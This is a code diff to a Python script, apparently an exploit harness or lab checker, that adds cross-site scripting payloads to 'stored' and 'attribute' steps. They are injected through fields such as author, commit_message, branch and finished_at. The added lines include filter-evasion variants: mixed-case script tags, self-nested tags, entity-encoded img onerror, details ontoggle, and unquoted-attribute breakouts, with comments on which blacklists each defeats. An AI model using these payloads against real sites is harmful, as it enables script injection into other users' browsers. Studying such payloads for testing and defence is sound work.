@@ -181,12 +181,21 @@ STEPS: dict[str, Callable[[], None]] = {
                                                        f"<svg/onload={m}()>"]),
     "stored": xss_exploit(lambda m: [{"author": f"<img src=x onerror={m}()>"},
                                      {"commit_message": f"<script>{m}()</script>"},
-                                     {"branch": f"<svg onload={m}()>"}],
+                                     {"branch": f"<svg onload={m}()>"},
+                                     # blacklists: mixed case, a tag nested in itself, entities decoded later
+                                     {"author": f"<ScRiPt>{m}()</sCrIpT>"},
+                                     {"commit_message": f"<scr<script>ipt>{m}()</scr</script>ipt>"},
+                                     {"author": f"&lt;img src=x onerror={m}()&gt;"},
+                                     {"commit_message": f"<details open ontoggle={m}()>"}],
                           lambda m: [None, f"<svg onload={m}()>"]),
     "attribute": xss_exploit(lambda m: [{"branch": f'x" onmouseover="{m}()" autofocus onfocus="{m}()'},
                                         {"finished_at": f'2024-05-02" onmouseover="{m}()'},
-                                        {"branch": f"y' onmouseover='{m}()"}],
-                             lambda m: [None, f'x" onmouseover="{m}()" autofocus onfocus="{m}()']),
+                                        {"branch": f"y' onmouseover='{m}()"},
+                                        # an attribute written without quotes: a space is enough
+                                        {"branch": f"z onmouseover={m}() autofocus onfocus={m}()"},
+                                        {"finished_at": f"2024-05-03 onmouseover={m}()"}],
+                             lambda m: [None, f'x" onmouseover="{m}()" autofocus onfocus="{m}()',
+                                        f"z onmouseover={m}() autofocus onfocus={m}()"]),
 }
 
 if __name__ == "__main__":
